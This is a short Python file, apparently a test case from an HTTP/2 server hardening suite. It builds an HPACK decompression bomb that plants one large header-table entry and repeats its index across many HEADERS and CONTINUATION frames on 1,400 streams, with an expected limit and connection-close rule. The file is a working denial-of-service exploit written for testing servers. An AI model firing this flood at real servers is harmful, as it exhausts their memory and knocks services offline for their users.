"""HPACK bomb: one large entry of the table, named thousands of times in a small block."""

from frames import (
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, SEARCH, block, flood, frame, integer, text)

LIMIT = "`session.headerListBytesFatal` 64 KiB"
RULE = "closed within 1 s"


def run(target):
    # Literal with incremental indexing: 3,900 bytes of the table's 4,096.
    entry = b"\x40" + text(b"x-bomb") + text(b"x" * 3_900)
    plant = frame(HEADERS, END_HEADERS | END_STREAM, 1, block(SEARCH) + entry)
    index = integer(62, 7, 0x80)
    # 130,000 fields of 3,906 bytes: half a gigabyte of header list in 128 KiB.
    fill = index * 16_300

    def bomb(stream):
        head = block(SEARCH)
        return (frame(HEADERS, END_STREAM, stream, head + index * (16_300 - len(head)))
                + frame(CONTINUATION, 0, stream, fill) * 6
                + frame(CONTINUATION, END_HEADERS, stream, fill))

    pieces = [(bomb(3 + 2 * number), 1) for number in range(1_400)]
    return flood(target, plant, pieces, 1_000)
